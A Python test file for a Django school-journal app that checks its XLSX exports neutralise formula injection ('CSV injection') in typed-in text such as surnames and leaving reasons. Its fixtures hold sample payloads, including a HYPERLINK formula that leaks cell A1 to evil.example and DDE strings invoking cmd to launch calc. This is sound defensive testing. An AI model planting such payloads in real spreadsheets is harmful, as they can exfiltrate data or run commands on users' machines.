"""Formula injection (OWASP "CSV injection"): no export hands a spreadsheet a live formula.

Free text typed into the product (a surname, a leaving reason, a health note, a report's
column) reaches the XLSX exports. Every spreadsheet is written by ``printing.xlsx``, which
neutralises formula-like text; the last test keeps it the only writer.
"""

import datetime
import io
import re
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from hypothesis import example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from accounts.roles import Role
from journal.registries import REGISTRIES
from journal.services import set_mark
from policy.models import PolicyValue
from printing.xlsx import Sheet, Table, neutralise, render_xlsx
from schools.models import LeavingCategory
from tests import factories
from tests.journal.helpers import make_lesson

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")&"'
LEAVING_PAYLOAD = "+cmd|' /C calc'!A0"
HEALTH_PAYLOAD = "@SUM(1+1)*cmd|' /C calc'!A0"
MON = datetime.date(2025, 10, 13)

# What a spreadsheet takes for the start of a formula, after blanks: OWASP's list and the
# full-width and small forms (＝, ﹢…) that NFKC folds into it.
FORMULA_STARTS = ("=", "+", "-", "@", "\u2212")


def _absent(lesson, student):
    set_mark(lesson=lesson, student_id=student.pk, kind="absent", acting_user=lesson.teacher)


@pytest.fixture
def hostile(school, school_class):
    """Students whose typed-in text is formula-like, one in each of the four registries."""
    pupil = factories.enrolled_student(school_class, last_name=PAYLOAD)
    pupil.not_studying_for_health = True
    pupil.not_studying_for_health_note = HEALTH_PAYLOAD
    pupil.save()
    leaver = factories.StudentFactory(last_name="-2+3+cmd|' /C calc'!A0")
    factories.EnrollmentFactory(
        student=leaver,
        school_class=school_class,
        end_date=datetime.date(2025, 10, 20),
        leaving_category=LeavingCategory.LEFT_NOT_STUDYING,
        leaving_reason=LEAVING_PAYLOAD,
    )
    # Five lessons missed on Monday (systematic at a threshold of 4) and three days of the
    # week (not attending: more than half of it).
    PolicyValue.objects.create(key="thresholds.hours_systematic_grades_5_9", school=school, value=4)
    PolicyValue.objects.create(key="thresholds.hours_long_grades_5_9", school=school, value=6)
    teacher = factories.staff_user(Role.SUBJECT_TEACHER, school)
    for period in range(1, 6):
        _absent(make_lesson(school_class, MON, period, teacher=teacher), pupil)
    for offset in (1, 2):
        day = MON + datetime.timedelta(days=offset)
        _absent(make_lesson(school_class, day, 1, teacher=teacher), pupil)
    return pupil, leaver


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("kind", sorted(REGISTRIES))
def test_registry_export_writes_formula_like_text_as_text(client, school, hostile, kind):
    client.force_login(factories.staff_user(Role.DEPUTY, school))

    response = client.get(
        reverse("journal:registry_export", args=[kind]),
        {"start": "2025-10-01", "end": "2025-10-31"},
    )

    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    pupil, leaver = hostile
    student = leaver if kind == "left_not_studying" else pupil
    # The text is all there, behind the apostrophe that keeps it text.
    assert "'" + student.full_name in values
    if kind == "health":
        assert "'" + HEALTH_PAYLOAD in values
    if kind == "left_not_studying":
        assert "'" + LEAVING_PAYLOAD in values


def test_registry_export_keeps_numbers_and_dates_as_numbers(client, school, hostile):
    client.force_login(factories.staff_user(Role.DEPUTY, school))

    response = client.get(
        reverse("journal:registry_export", args=["systematic"]),
        {"start": "2025-10-01", "end": "2025-10-31"},
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=4) if row[1].value)
    assert (row[0].value, row[0].data_type) == (1, "n")
    assert row[2].is_date and row[2].value.date() == hostile[0].birth_date
    assert row[2].number_format == "DD.MM.YYYY"
    assert (row[5].value, row[5].data_type) == (7, "n")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+A1",
        "-1+A1",
        "@SUM(A1)",
        "\t=1",
        "\tтекст",
        "\r=1",
        "\n=1",
        " =1+1",
        "\u00a0\u3000=1",
        "\u200b=1",
        '＝HYPERLINK("http://x")',
        "＋1",
        "－A1",
        "＠SUM(A1)",
        "﹦1",
        "\u22121+A1",
        "- болел",
    ],
)
def test_neutralise_guards_every_formula_start(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Иванов",
        "",
        "'=1",
        "+7 (495) 123-45-67",
        "-",
        "-12,5",
        "a=1",
        0,
        -5,
        2.5,
        None,
        datetime.date(2025, 10, 1),
        datetime.datetime(2025, 10, 1, 8, 30),
    ],
)
def test_neutralise_leaves_plain_text_numbers_and_dates_alone(value):
    assert neutralise(value) == value


def _blank_or_invisible(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def _formula_like(text: str) -> bool:
    if text.startswith(("\t", "\r")):
        return True
    rest = text
    while rest and _blank_or_invisible(rest[0]):
        rest = rest[1:]
    if not rest:
        return False
    head = unicodedata.normalize("NFKC", rest[0])
    if not head.startswith(FORMULA_STARTS):
        return False
    # Digits, blanks, signs, brackets and separators only (a phone number): no function,
    # no reference, nothing a spreadsheet can reach outside the cell.
    return text != rest or not re.fullmatch(r"[0-9 ()+\-.,]+", text)


@hypothesis_settings(max_examples=500)
@given(st.text())
@example("=1")
@example("\t")
@example("＝1")
def test_neutralise_returns_text_or_guarded_text(text):
    result = neutralise(text)
    if _formula_like(text):
        assert result == "'" + text
    else:
        assert result == text


hostile_text = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40
) | st.sampled_from([PAYLOAD, LEAVING_PAYLOAD, HEALTH_PAYLOAD, " ＝1", "\x01=1", "\uffff"])
plain = st.one_of(st.integers(-(10**9), 10**9), st.dates(), hostile_text)


@hypothesis_settings(max_examples=60, deadline=None)
@given(
    title=hostile_text,
    heading=st.lists(hostile_text, max_size=2),
    columns=st.lists(hostile_text, min_size=1, max_size=3),
    rows=st.lists(st.lists(plain, min_size=1, max_size=3), max_size=4),
)
def test_any_text_in_any_sheet_is_written_as_text(title, heading, columns, rows):
    document = render_xlsx(
        [Sheet(title=title, heading=heading, tables=[Table(columns=columns, rows=rows)])],
        filename="x.xlsx",
    )

    cells = [cell for cell in _cells(document.content) if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str) and not cell.value.startswith("'"):
            assert not _formula_like(cell.value)


# Every spreadsheet is written by printing.xlsx: a module that imports a spreadsheet or CSV
# writer itself, or sends a spreadsheet's MIME type, bypasses the neutralising.
WRITERS = re.compile(
    r"^\s*(from|import)\s+(openpyxl|xlsxwriter|csv|tablib|pandas|xlwt)\b"
    r"|text/csv|spreadsheetml|ms-excel|opendocument\.spreadsheet",
    re.MULTILINE,
)
THE_WRITER = Path("printing/xlsx.py")
# Modules that read uploaded spreadsheets (the bulk import, the e-journal's export) or name
# the types an upload accepts: they import a reader and write none (checked below).
READERS = {
    Path("administration/imports/base.py"),
    Path("exchange/reader.py"),
    Path("exchange/forms.py"),
}
WRITER_CALLS = re.compile(r"csv\.(writer|DictWriter)|Workbook\(|\.save\(|\.export\(|HttpResponse")
# Modules that write CSV only into PostgreSQL's COPY (the threshold engine's bulk inserts):
# the text never reaches a person, so nothing to neutralise; they hand it to nothing else.
DATABASE_FEEDS = {Path("alerts/bulk.py")}
FILE_OR_ANSWER = re.compile(r"Workbook\(|\.save\(|\.export\(|HttpResponse|FileResponse|open\(")


def _product_modules():
    base = Path(settings.BASE_DIR)
    for package in sorted(base.iterdir()):
        if not (package / "__init__.py").exists() or package.name in {"tests", "bench"}:
            continue
        for module in sorted(package.rglob("*.py")):
            if "migrations" not in module.parts:
                yield module.relative_to(base)


def test_no_module_but_printing_xlsx_writes_a_spreadsheet():
    base = Path(settings.BASE_DIR)
    modules = list(_product_modules())
    assert THE_WRITER in modules and Path("journal/views/registries.py") in modules

    bypassing = [
        str(module)
        for module in modules
        if module != THE_WRITER
        and module not in READERS | DATABASE_FEEDS
        and WRITERS.search((base / module).read_text(encoding="utf-8"))
    ]
    writing_readers = [
        str(module)
        for module in READERS
        if WRITER_CALLS.search((base / module).read_text(encoding="utf-8"))
    ]

    feeds_elsewhere = [
        str(module)
        for module in DATABASE_FEEDS
        if "copy_expert" not in (text := (base / module).read_text(encoding="utf-8"))
        or FILE_OR_ANSWER.search(text)
    ]

    assert bypassing == []
    assert writing_readers == []
    assert feeds_elsewhere == []
